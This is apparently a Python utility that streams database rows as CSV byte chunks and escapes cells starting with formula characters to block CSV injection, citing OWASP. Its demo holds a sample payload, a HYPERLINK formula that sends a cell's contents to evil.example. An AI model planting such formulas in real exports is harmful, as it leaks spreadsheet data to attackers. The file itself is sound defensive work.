# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.firedrill]
# needs = []
# browser = true
# ///
# SPDX-License-Identifier: MIT-0
"""Rows to CSV as blocks of bytes, with an apostrophe before formulas.

For rows that pass through Python. Where PostgreSQL can write the CSV itself
(copy_stream.py), let it: that costs a fraction of the time. What the csv
module cannot do before Python 3.12 is tell NULL from an empty string; here
NULL is an empty field and the empty string is "".

A quoted formula is still a formula: quotes belong to the file, not to the
cell. So text that begins with a dangerous character gets an apostrophe before
it, and so does a formula after a separator or a line end inside the text:
Excel splits at ; in much of Europe, whatever the file was written with.
Numbers stay numbers, also negative ones.

Source: RFC 4180, https://owasp.org/www-community/attacks/CSV_Injection
"""

import math
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

Cell = str | int | float | Decimal | date | None


# --8<-- [start:safe_text]
MARKS = "=+@\uff1d\uff0b\uff0d\uff20-"  # OWASP's, and their full-width forms
_FIRST = rf"\A(?=[\t\r\n\0{MARKS}])"
_LATER = rf'(?<=[,;\t\r\n])(?=["\0]*[{MARKS}])'  # wherever a reader splits it
_RISKY = re.compile(f"{_FIRST}|{_LATER}")


def safe_text(text: str) -> str:
    """Return text of which a spreadsheet shows every part as text."""
    return _RISKY.sub("'", text)


# --8<-- [end:safe_text]


# --8<-- [start:field]
class CellError(ValueError):
    """A value that has no one meaning in a CSV file."""


@dataclass(frozen=True, slots=True)
class Dialect:
    """Who reads the file.

    Excel wants `delimiter=";"` where the comma is the decimal sign, and `bom`
    to see UTF-8. `escape=False` is for files that only machines read.
    """

    delimiter: str = ","
    escape: bool = True
    bom: bool = False


def field(value: Cell, dialect: Dialect) -> str:
    """Return one value as it stands in the file.

    Raises CellError for NaN and infinities, for a time without a zone, and
    for types that have no rule here.
    """
    if value is None:
        return ""
    if isinstance(value, str):
        text = safe_text(value) if dialect.escape else value
        special = (dialect.delimiter, '"', "\n", "\r")
        if text.strip() != text or not text or any(s in text for s in special):
            return '"' + text.replace('"', '""') + '"'
        return text
    return _plain(value)


def _plain(value: object) -> str:
    """Return numbers and times, which hold nothing that needs quotes."""
    match value:
        case bool():
            return str(value).lower()
        case int():
            return str(value)
        case float() if math.isfinite(value):
            return str(value)
        case Decimal() if value.is_finite():
            return f"{value:f}"
        case float() | Decimal():
            raise CellError(f"{value} is no number to every reader")
        case datetime() if value.utcoffset() is None:
            raise CellError(f"{value} has no time zone: whose clock is it?")
        case date():  # a datetime is one, too
            return value.isoformat()
    raise CellError(f"no rule for {type(value).__name__}: convert it first")


# --8<-- [end:field]


# --8<-- [start:csv_chunks]
_COMMA = Dialect()


def csv_chunks(
    rows: Iterable[Sequence[Cell]],
    header: Sequence[str],
    *,
    size: int = 65_536,
    dialect: Dialect = _COMMA,
) -> Iterator[bytes]:
    """Yield the header at once, then blocks of about `size` (>= 1) bytes.

    Memory: one block, however many rows come. An exception from `rows` passes
    through, so a short file never looks like a whole one. Raises CellError,
    and ValueError for a row that is not as long as the header.
    """
    if size < 1:
        raise ValueError(f"size must be at least 1 byte, got {size}")

    def line(cells: Sequence[Cell]) -> bytes:
        if len(cells) != len(header):
            what = f"{len(cells)} cells under {len(header)} names: {cells!r}"
            raise ValueError(what)
        fields = (field(cell, dialect) for cell in cells)
        return (dialect.delimiter.join(fields) + "\r\n").encode()

    yield ("\ufeff" if dialect.bom else "").encode() + line(header)
    block = bytearray()
    for row in rows:
        block += line(row)
        if len(block) >= size:  # a chunk a row would cost a send a row
            yield bytes(block)
            block.clear()
    if block:
        yield bytes(block)


# --8<-- [end:csv_chunks]


# --8<-- [start:demo]
def main() -> None:
    """Type cells of your own: which of them would a spreadsheet compute?"""
    cells: list[Cell] = [
        '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
        "@SUM(1+1)",
        "+44 20 7946 0000",
        "-12.5",  # text, so it is escaped
        Decimal("-12.5"),  # a number stays one
        'Doe, "Jane"',
        "",
        None,
    ]
    rows = [(number, cell) for number, cell in enumerate(cells, 1)]
    for chunk in csv_chunks(rows, ["id", "cell"]):
        print(chunk.decode(), end="")


if __name__ == "__main__":
    main()
# --8<-- [end:demo]
